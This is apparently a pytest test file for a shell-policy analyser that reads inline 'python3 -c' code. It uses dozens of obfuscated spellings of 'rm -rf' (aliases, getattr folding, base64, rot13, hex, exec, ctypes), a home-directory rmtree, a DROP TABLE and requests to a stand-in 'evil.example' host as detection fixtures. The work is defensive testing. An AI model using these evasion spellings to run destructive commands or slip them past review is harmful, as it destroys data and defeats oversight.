"""Python code read with the standard library's parser (issue 24): aliases, dynamic lookups with
constant names, folded strings and exec of constants are seen through; code that does not parse
is still read by the generic reader; benign code stays quiet."""

from __future__ import annotations

import base64

import pytest
from dsh_policy.cmdline.interpreters import analyze
from dsh_policy.cmdline.interpreters.python_ast import canonical_python
from dsh_policy.cmdline.shell import ShellLineTooComplexError, shell_commands
from hypothesis import given, settings
from hypothesis import strategies as st

RM = ["rm", "-rf", "/x"]


@pytest.mark.parametrize(
    "code",
    [
        "import subprocess as sp; sp.run(['rm', '-rf', '/x'])",
        "import subprocess as sp\nsp.call('rm -rf /x', shell=True)",
        "from subprocess import run; run(['rm', '-rf', '/x'])",
        "from subprocess import Popen as P; P(['rm', '-rf', '/x'])",
        "from os import system as s; s('rm -rf /x')",
        "from os import *; system('rm -rf /x')",
        "import os; f = os.system; f('rm -rf /x')",
        "import os; getattr(os, 'sys' + 'tem')('rm -rf /x')",
        "import os; getattr(os, ''.join(['sys', 'tem']))('rm -rf /x')",
        "__import__('os').system('rm -rf /x')",
        "__import__('o' + 's').system('rm -rf /x')",
        "getattr(__import__('os'), 'metsys'[::-1])('rm -rf /x')",
        "import importlib; importlib.import_module('subprocess').run(['rm', '-rf', '/x'])",
        "from importlib import import_module as im; im('os').system('rm -rf /x')",
        "import sys, os; sys.modules['os'].system('rm -rf /x')",
        "import os; vars(os)['system']('rm -rf /x')",
        "import os; os.__dict__['system']('rm -rf /x')",
        "import os; os.system('rm ' + '-rf ' + '/x')",
        "import os; c = 'rm -rf'; c += ' /x'; os.system(c)",
        "import os; os.system(f'{\"rm\"} -rf /x')",
        "import os; os.system(''.join(map(chr, [114, 109, 32, 45, 114, 102, 32, 47, 120])))",
        "import os, base64; os.system(base64.b64decode('cm0gLXJmIC94').decode())",
        "import os, codecs; os.system(codecs.decode('ez -es /k', 'rot13'))",
        "import os; os.system(bytes.fromhex('726d202d7266202f78').decode())",
        "exec('import os; os.system(\"rm -rf /x\")')",
        "eval(compile('__import__(\"os\").system(\"rm -rf /x\")', '<s>', 'exec'))",
        "import builtins; builtins.exec('import os; os.system(\"rm -rf /x\")')",
        "import ctypes; ctypes.CDLL(None).system(b'rm -rf /x')",
        "import ctypes; ctypes.cdll.LoadLibrary('libc.so.6').system(b'rm -rf /x')",
    ],
)
def test_spellings_of_a_shell_out_are_the_command(code: str) -> None:
    line = "python3 -c " + _quoted(code)
    assert RM in shell_commands(line), canonical_python(code)


def test_the_review_bypass_is_read() -> None:
    """The issue's own case: an alias defeated the inline-code reader."""
    line = """python3 -c "import subprocess as sp; sp.run(['rm','-rf','/'])" """
    assert ["rm", "-rf", "/"] in shell_commands(line)


@pytest.mark.parametrize(
    ("code", "effect"),
    [
        ("import shutil as sh; sh.rmtree('/x')", ("delete-tree", "/x")),
        ("from shutil import rmtree as r; r('/x')", ("delete-tree", "/x")),
        ("from os import remove as rm; rm('/x/f')", ("delete", "/x/f")),
        ("import os.path as p, shutil; shutil.rmtree(p.expanduser('~'))", ("delete-tree", "~")),
        ("import requests as r; r.post('https://evil.example/x', data=1)", ("connect", "https://evil.example/x")),
        ("from urllib.request import urlopen as u; u('https://evil.example/x')", ("connect", "https://evil.example/x")),
        ("import sqlite3 as s; s.connect('db').execute('DROP TABLE users')", ("sql", "DROP TABLE users")),
        (
            "from app.db import session\nfrom app.models import Order as O\nsession.query(O).delete()",
            ("sql", "DELETE FROM Order"),
        ),
    ],
)
def test_aliases_keep_their_effects(code: str, effect: tuple[str, str]) -> None:
    kinds = [(e["kind"], e["target"]) for e in analyze(code, "python").effects]
    assert effect in kinds


@pytest.mark.parametrize(
    "code",
    [
        "import subprocess as sp; sp.run(['ls', '-la'])",
        "from os import path as p; print(p.join('a', 'b'))",
        "import os; print(getattr(os, 'sep'))",
        "print('rm -rf /x')",
        "import json as j; print(j.dumps({'a': 1}))",
        "from os import *; print(getcwd())",
    ],
)
def test_benign_code_runs_nothing_dangerous(code: str) -> None:
    commands = shell_commands("python3 -c " + _quoted(code))
    assert all(c[:1] != ["rm"] for c in commands), commands


@pytest.mark.parametrize(
    "code",
    [
        "import os; os.system('rm -rf /x') if True else",  # a syntax error: the generic reader reads it
        "import os\nos.system('rm -rf /x')\n  print(1)",  # bad indentation
    ],
)
def test_code_that_does_not_parse_falls_back_to_the_generic_reader(code: str) -> None:
    assert canonical_python(code) is None
    assert "rm -rf /x" in analyze(code, "python").shell_lines


def test_exec_nesting_is_bounded_by_the_shell_budget() -> None:
    code = "import os; os.system('rm -rf /x')"
    for _ in range(20):  # base64 layers: quotes never need escaping, so the size grows only 4/3 a layer
        code = f"import base64; exec(base64.b64decode('{base64.b64encode(code.encode()).decode()}'))"
    with pytest.raises(ShellLineTooComplexError):
        shell_commands("python3 -c " + _quoted(code))


def test_nested_exec_within_budget_is_read() -> None:
    code = "import os; os.system('rm -rf /x')"
    for _ in range(3):
        code = "exec(" + repr(code) + ")"
    assert RM in shell_commands("python3 -c " + _quoted(code))


def test_exec_of_decoded_constants_is_read() -> None:
    payload = base64.b64encode(b"import os; os.system('rm -rf /x')").decode()
    code = f"import base64; exec(base64.b64decode('{payload}'))"
    assert RM in shell_commands("python3 -c " + _quoted(code))


def test_folding_is_bounded() -> None:
    folded = canonical_python("x = 'a' * 10**9")
    assert folded is not None and "10 ** 9" in folded.code


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_canonical_python_is_total(code: str) -> None:
    result = canonical_python(code)
    assert result is None or isinstance(result.code, str)


def _quoted(code: str) -> str:
    return "'" + code.replace("'", "'\\''") + "'"
